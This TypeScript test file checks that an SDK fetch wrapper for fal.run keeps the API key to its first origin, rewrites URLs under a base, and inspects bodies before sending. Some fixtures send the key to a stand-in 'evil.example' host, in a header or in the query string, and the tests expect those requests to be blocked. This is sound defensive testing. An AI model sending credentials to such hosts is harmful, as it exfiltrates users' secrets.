import assert from 'node:assert/strict';
import { test } from 'node:test';
import { json, notStopped, scriptedHttp } from '../http/scripted-http.testsuite.ts';
import { watchedFetch, type SdkFetchOptions, type WatchedFetch } from './sdk-fetch.ts';

const KEY = 'a-key-of-fal';
const WITH_KEY = { headers: { authorization: `Key ${KEY}` } };

function watched(changes: Partial<SdkFetchOptions> = {}) {
  const http = scriptedHttp(json({ ok: true }));
  const options = { http, apiKey: KEY, baseUrl: null, origin: null, signal: notStopped };
  const watch: WatchedFetch = watchedFetch({ ...options, ...changes });
  return { ...watch, asked: () => http.requests.map(({ url }) => url) };
}

test('the key goes to the first origin alone, whatever a reply names', async () => {
  const { fetch, asked, origin } = watched();
  await fetch('https://queue.fal.run/fal-ai/x', { ...WITH_KEY, method: 'POST', body: '{}' });
  assert.equal(origin(), 'https://queue.fal.run');
  for (const url of ['https://evil.example/requests/1', 'http://queue.fal.run/requests/1']) {
    await assert.rejects(fetch(url, WITH_KEY), /was about to be sent to .* It was not sent/);
  }
  await assert.rejects(fetch(`https://evil.example/?key=${KEY}`), /not sent/);
  // Without the key it is anybody's.
  await fetch('https://status.example/requests/1');
  assert.deepEqual(asked(), [
    'https://queue.fal.run/fal-ai/x',
    'https://status.example/requests/1',
  ]);
});

test('a later call knows the origin of the first', async () => {
  const { fetch } = watched({ origin: 'https://queue.fal.run' });
  await assert.rejects(fetch('https://evil.example/requests/1', WITH_KEY), /not sent/);
});

test('with a base everything is asked below it', async () => {
  const { fetch, asked } = watched({ baseUrl: 'http://127.0.0.1:9/fal/' });
  for (const url of [
    'https://queue.fal.run/fal-ai/x?a=1',
    'http://127.0.0.1:9/fal/fal-ai/x',
    'http://127.0.0.1:99/fal/y',
  ]) {
    await fetch(url, WITH_KEY);
  }
  assert.deepEqual(asked(), [
    'http://127.0.0.1:9/fal/fal-ai/x?a=1',
    'http://127.0.0.1:9/fal/fal-ai/x',
    'http://127.0.0.1:9/fal/fal/y',
  ]);
});

test('what may not be sent is looked at before it is', async () => {
  const { fetch, asked } = watched({
    inspect(body) {
      if (!body.includes('a.png')) throw new RangeError('the picture is missing');
    },
  });
  const send = (body: string) => fetch('https://fal.example', { method: 'POST', body });
  await assert.rejects(send('{}'), /the picture is missing/);
  assert.deepEqual(asked(), []);
  await send('{"image_url":"a.png"}');
  assert.equal(asked().length, 1);
});
